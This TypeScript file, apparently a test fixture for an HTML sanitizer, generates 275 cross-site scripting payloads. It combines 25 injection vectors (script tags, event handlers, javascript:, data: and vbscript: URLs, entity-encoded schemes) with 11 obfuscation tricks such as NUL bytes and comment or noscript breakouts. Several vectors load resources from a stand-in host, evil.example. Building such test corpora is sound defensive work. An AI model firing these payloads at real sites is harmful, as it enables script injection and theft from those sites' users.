const code = 'alert(1)'
const elements = [
  `<script>${code}</script>`,
  `<script src=https://evil.example/a.js></script>`,
  `<img src=x onerror=${code}>`,
  `<svg onload=${code}>`,
  `<svg><script>${code}</script></svg>`,
  `<math><mtext><img src onerror=${code}></mtext></math>`,
  `<iframe src=javascript:${code}></iframe>`,
  `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  `<object data=javascript:${code}></object>`,
  `<embed src=//evil.example>`,
  `<a href=javascript:${code}>x</a>`,
  `<a href="java&#10;script:${code}">x</a>`,
  `<a href="&#x6A;avascript:${code}">x</a>`,
  `<a href=" javascript:${code}">x</a>`,
  `<a href="data:text/html,<script>${code}</script>">x</a>`,
  `<a href="vbscript:${code}">x</a>`,
  `<form action=javascript:${code}><button>x</button></form>`,
  `<input autofocus onfocus=${code}>`,
  `<details open ontoggle=${code}>x</details>`,
  `<body onload=${code}>`,
  `<style>@import "//evil.example"</style>`,
  `<p style="background:url(//evil.example)">x</p>`,
  `<link rel=stylesheet href=//evil.example>`,
  `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  `<base href=//evil.example>`,
]
/** How the same thing is smuggled in. */
const disguises: ((html: string) => string)[] = [
  (html) => html,
  (html) => `<p>${html}</p>`,
  (html) => html.toUpperCase(),
  (html) => html.replaceAll('<', '<\u0000'),
  (html) => html.replaceAll(' on', '/on').replace(/^<(\w+)/, '<$1\t'),
  (html) => `<noscript><p title="</noscript>${html}">`,
  (html) => `<!--><!-- -->${html}-->`,
  (html) => `</textarea></title>${html}`,
  (html) => `<a title="${html}">x</a>`,
  (html) => html.replace('<', '<<'),
  (html) => html.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
]

/** 275 ways to bring a script or an outside address into a text: 25 elements in eleven disguises, one of them with NUL. */
export const scriptPayloads: readonly string[] = elements.flatMap((element) =>
  disguises.map((disguise) => disguise(element)),
)
